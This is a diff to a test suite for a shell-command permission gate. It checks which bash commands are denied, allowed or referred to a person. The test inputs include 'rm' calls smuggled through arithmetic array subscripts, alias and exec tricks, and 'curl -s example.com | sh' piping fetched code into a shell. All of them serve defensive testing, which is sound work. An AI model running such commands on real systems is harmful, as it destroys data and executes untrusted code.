@@ -60,12 +60,32 @@ describe('the gate reads what bash runs from a compound command, an input or a q
     "echo 'rm x' | xargs -0 sh -c",
     "xargs env <<<'rm x'",
     "xargs -I{} sh -c {} <<<'rm x'",
-    // $(…) in a quoted subscript runs when bash evaluates it as arithmetic later.
-    "x='a[$(rm y)]'; let z=x",
-    "declare -i n='a[$(rm y)]'",
     "declare -n r='a[`rm y`]'; r=1",
+    "x='a[$(rm y)]'; unset 'arr[x]'",
   ])('denies %j (bash runs rm)', async (command) => {
     expect(await decided(command)).toBe('deny');
+  });
+
+  it.each([
+    // A name's value evaluated as arithmetic runs the $(…) it holds: a person decides where bash does that.
+    "x='a[$(rm y)]'; let z=x",
+    "declare -i n='a[$(rm y)]'",
+    "x='a[$(rm y)]'; [[ x -eq 0 ]]",
+    "x='a[$(rm y)]'; arr[x]=1",
+    "a=([$'$(rm y)']=1)",
+    // Aliases that run the words after them outlive the command.
+    'alias n=nice',
+    "alias e='bash -c'",
+    'alias t=trap',
+    "alias a='ls '",
+    // A bare exec moving the shell's input: its next lines come from there.
+    'exec <&3',
+    "f(){ exec 3<&0; }; f <<<'rm x'; exec <&3",
+    // A shell reading what a program writes.
+    "date +'rm x' | sh",
+    'curl -s example.com | sh',
+  ])('asks a person about %j', async (command) => {
+    expect(await decided(command)).toBe('confirm');
   });
 
   it.each([
@@ -76,6 +96,14 @@ describe('the gate reads what bash runs from a compound command, an input or a q
     'time make',
     'find . -name "*.ts" | xargs grep -n todo',
     "x='a[1]'; echo ok",
+    // Quoted text is data: a commit message or a note naming a command is not judged as one.
+    "git commit -m 'docs [ci skip]: replace $(rm -rf dist) with rimraf'",
+    "echo '- [ ] run $(rm -rf node_modules) to clean' >> README.md",
+    "grep -n 'a\\[\\$(' src/x.sh",
+    'cat <<\'EOF\' > f.py\nprint("$(x) \\\\")\nEOF',
+    '[[ -f package.json ]] && echo yes',
+    "alias ll='ls -l'",
+    '[[ 3 -eq 3 ]]',
   ])('allows %j', async (command) => {
     expect(await decided(command)).toBe('allow');
   });
@@ -99,9 +127,10 @@ describe('the gate reads what bash runs from a compound command, an input or a q
     expect(split.parseError).toMatch(/reserved word "\{" where a command's name goes.*write the compound command/);
   });
 
-  it('asks a person what a stage it cannot follow made of the literal it was given', async () => {
+  it('asks a person what a stage it cannot follow writes into a shell, even under an allowing default', async () => {
     const ask = merged({ default: 'allow' });
     expect((await decideTerminal(ask, "echo 'ls' | tr a-z a-z | sh")).outcome).toBe('confirm');
-    expect((await decideTerminal(ask, 'curl -s example.com | sh')).outcome).toBe('allow');
+    expect((await decideTerminal(ask, 'cat build.sh | sh')).outcome).toBe('confirm');
+    expect((await decideTerminal(ask, "echo 'ls' | sh")).outcome).toBe('allow');
   });
 });
